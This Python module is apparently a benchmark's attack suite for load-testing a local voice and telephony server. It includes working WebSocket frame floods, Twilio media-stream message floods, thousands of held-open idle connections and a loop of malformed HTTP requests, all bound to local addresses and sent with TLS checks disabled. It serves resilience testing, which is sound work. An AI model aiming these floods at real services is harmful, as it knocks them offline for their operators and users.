"""Attacks over TCP: WebSocket frames that cost more than they weigh, silent connections, malformed requests."""

from __future__ import annotations

import asyncio
import json
import resource
import socket
import ssl
import struct
import time
from contextlib import suppress

from bench.attacks.target import Target

LOCAL = ("127.0.0.6", 0)
DESCRIPTORS = 8_000
_HANDSHAKE = (
    b"GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
_TWILIO_START = json.dumps(
    {
        "event": "start",
        "streamSid": "MZ1",
        "start": {
            "streamSid": "MZ1",
            "callSid": "CA1",
            "mediaFormat": {"encoding": "audio/x-mulaw", "sampleRate": 8000, "channels": 1},
        },
    }
).encode()
PAUSE_S = 0.05
_CLOSE = b"\x88"
"""The first byte of a close frame; where it is part of another one, the attacker comes again a little sooner."""
CONTINUATION, TEXT, BINARY, PING = 0, 1, 2, 9
ODD_REQUESTS = (
    b"GET //[ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    b"GET /v1/voice?//[ HTTP/1.1\r\nHost: [\r\n\r\n",
    b"GET /twiml HTTP/1.1\r\nHost: [\r\n\r\n",
    b"POST /twiml HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: " + b"1" * 5_000 + b"\r\n\r\n",
    b"POST /twiml HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\n\r\n",
)


def frame(opcode: int, payload: bytes = b"", *, is_final: bool = True) -> bytes:
    """A WebSocket frame, masked with zeroes (RFC 6455 section 5.2)."""
    head = bytes((opcode | (0x80 if is_final else 0),))
    size = len(payload)
    return head + (bytes((0x80 | size,)) if size < 126 else b"\xfe" + struct.pack("!H", size)) + bytes(4) + payload


def _insecure() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


async def _flood(
    address: tuple[str, int], path: bytes, first: bytes, blob: bytes, *, has_tls: bool, until: float
) -> None:
    """Upgrade, send `first`, and `blob` again and again; once the worker closes the WebSocket, do it anew at once."""
    tls = _insecure() if has_tls else None
    while time.monotonic() < until:
        with suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await asyncio.open_connection(*address, ssl=tls, local_addr=LOCAL)
            writer.write(_HANDSHAKE % path)
            await reader.readuntil(b"\r\n\r\n")
            writer.write(first)
            reading = asyncio.create_task(reader.read(1 << 20))
            while time.monotonic() < until and not reader.at_eof():
                writer.write(blob)
                await writer.drain()
                if reading.done():
                    if _CLOSE in reading.result():
                        break
                    reading = asyncio.create_task(reader.read(1 << 20))
            reading.cancel()
            writer.transport.abort()
        await asyncio.sleep(PAUSE_S)


def websocket_frames(target: Target, until: float) -> None:
    """Pings, empty fragments, one-byte fragments and messages of no kind, over 40 connections."""
    kinds = (
        (b"", frame(PING) * 10_000),
        (frame(BINARY, b"\x63", is_final=False), frame(CONTINUATION, is_final=False) * 10_000),
        (frame(BINARY, b"\x63", is_final=False), frame(CONTINUATION, b"x", is_final=False) * 9_000),
        (b"", frame(BINARY, b"\x63") * 9_000),
    )

    async def flood() -> None:
        each = (_flood(target.websocket, b"/v1/voice", *kind, has_tls=True, until=until) for kind in kinds * 10)
        await asyncio.gather(*each)

    asyncio.run(flood())


def media_stream_messages(target: Target, until: float) -> None:
    """A telephone network's stream before and after `start`: messages of two bytes, over 40 connections."""
    kinds = ((b"", frame(TEXT, b"{}") * 8_000), (frame(TEXT, _TWILIO_START), frame(TEXT, b"{}") * 8_000))

    async def flood() -> None:
        each = (_flood(target.telephony, b"/v1/twilio", *kind, has_tls=False, until=until) for kind in kinds * 20)
        await asyncio.gather(*each)

    asyncio.run(flood())


def silent_connections(target: Target, until: float) -> None:
    """3,000 TCP connections that never begin TLS, and 40 requests to the admin port that never end."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (DESCRIPTORS, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    held = []
    for index in range(3_040):
        each = socket.socket()
        each.settimeout(0.05)
        each.bind(LOCAL)
        held.append(each)
        with suppress(OSError):
            each.connect(target.admin if index >= 3_000 else target.websocket)
            if index >= 3_000:
                each.send(b"GET /")
        if time.monotonic() > until:
            break
    time.sleep(max(0.0, until - time.monotonic()))
    for each in held:
        each.close()


def odd_requests(target: Target, until: float) -> None:
    """Requests whose target, host or length is none, and unsigned webhooks, as fast as they are answered."""

    async def one(request: bytes, address: tuple[str, int], tls: ssl.SSLContext | None) -> None:
        with suppress(OSError, asyncio.IncompleteReadError, TimeoutError):
            reader, writer = await asyncio.open_connection(*address, ssl=tls, local_addr=LOCAL)
            writer.write(request)
            await asyncio.wait_for(reader.read(), 3)
            writer.transport.abort()

    async def flood() -> None:
        tls = _insecure()
        doors = ((target.telephony, None), (target.admin, None), (target.websocket, tls))
        while time.monotonic() < until:
            await asyncio.gather(*(one(request, *door) for request in ODD_REQUESTS for door in doors))

    asyncio.run(flood())
